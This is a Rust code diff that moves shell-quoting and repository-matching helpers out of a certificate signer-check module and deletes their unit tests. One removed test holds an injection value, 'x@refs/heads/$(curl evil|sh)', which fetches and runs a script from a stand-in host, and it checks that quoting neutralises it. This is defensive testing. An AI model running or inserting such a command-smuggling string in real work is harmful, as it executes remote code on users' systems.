@@ -8,6 +8,8 @@ use crate::policy::{
 use super::certificate::Leaf;
 use super::difference::{Difference, issuer_hint};
 use super::near_miss;
+use super::repository::belongs_to;
+use super::shell::quoted;
 use super::signature::{SignedBy, Verified};
 
 /// Checks what signed against the signer rule: every finding, not only the first.
@@ -43,18 +45,6 @@ fn check_identity(leaf: &Leaf, signer: &CertificateRule, written_in: WrittenIn) 
         .expected(signer.identity.describe())
         .found(&leaf.identity)
         .next(difference.hint(leaf, signer, written_in))
-}
-
-/// A text that a shell takes as one word and nothing else: hints are copied, and a git ref may hold `$(…)`.
-pub(crate) fn quoted(text: &str) -> String {
-    let is_plain = |b: u8| {
-        b.is_ascii_alphanumeric() || matches!(b, b'@' | b'%' | b'+' | b'=' | b':' | b',' | b'.' | b'/' | b'_' | b'-')
-    };
-    if !text.is_empty() && text.bytes().all(is_plain) {
-        text.to_owned()
-    } else {
-        format!("'{}'", text.replace('\'', r"'\''"))
-    }
 }
 
 fn check_issuer(leaf: &Leaf, signer: &CertificateRule, written_in: WrittenIn) -> Finding {
@@ -239,49 +229,4 @@ fn pin_hint(source: &str, written_in: WrittenIn) -> String {
 fn can_be_reusable(identity: &str) -> bool {
     let path = identity.split_once("://").map_or(identity, |(_, path)| path);
     WorkflowName::of_github(identity).is_some() || path.contains("//")
-}
-
-/// Whether a workflow's name lies within a repository's URL.
-pub(crate) fn belongs_to(identity: &str, repository: &str) -> bool {
-    let length = repository.len();
-    identity.len() > length
-        && identity.is_char_boundary(length)
-        && same_repository(&identity[..length], repository)
-        && identity.as_bytes()[length] == b'/'
-}
-
-/// Names on github.com do not distinguish upper and lower case; everywhere else every byte counts.
-pub(crate) fn same_repository(one: &str, other: &str) -> bool {
-    let on_github = |text: &str| text.starts_with("https://github.com/");
-    one == other || (on_github(one) && on_github(other) && one.eq_ignore_ascii_case(other))
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn a183_a_workflow_of_a_repository_whose_name_begins_alike_does_not_belong() {
-        let repository = "https://github.com/acme/app";
-        assert!(belongs_to("https://github.com/acme/app/.github/workflows/x.yml@refs/heads/main", repository));
-        assert!(belongs_to("https://github.com/Acme/App/.github/workflows/x.yml@refs/heads/main", repository));
-        assert!(!belongs_to("https://github.com/acme/app-evil/.github/workflows/x.yml@refs/heads/main", repository));
-        assert!(!belongs_to("https://github.com/acme/app", repository));
-    }
-
-    #[test]
-    fn hints_can_be_copied_into_a_shell() {
-        assert_eq!(
-            quoted("https://github.com/acme/app/x.yml@refs/tags/v1"),
-            "https://github.com/acme/app/x.yml@refs/tags/v1"
-        );
-        assert_eq!(quoted("x@refs/heads/$(curl evil|sh)"), "'x@refs/heads/$(curl evil|sh)'");
-        assert_eq!(quoted("it's"), r"'it'\''s'");
-    }
-
-    #[test]
-    fn only_github_ignores_case() {
-        assert!(same_repository("https://github.com/Acme/App", "https://github.com/acme/app"));
-        assert!(!same_repository("https://gitlab.com/Acme/App", "https://gitlab.com/acme/app"));
-    }
 }
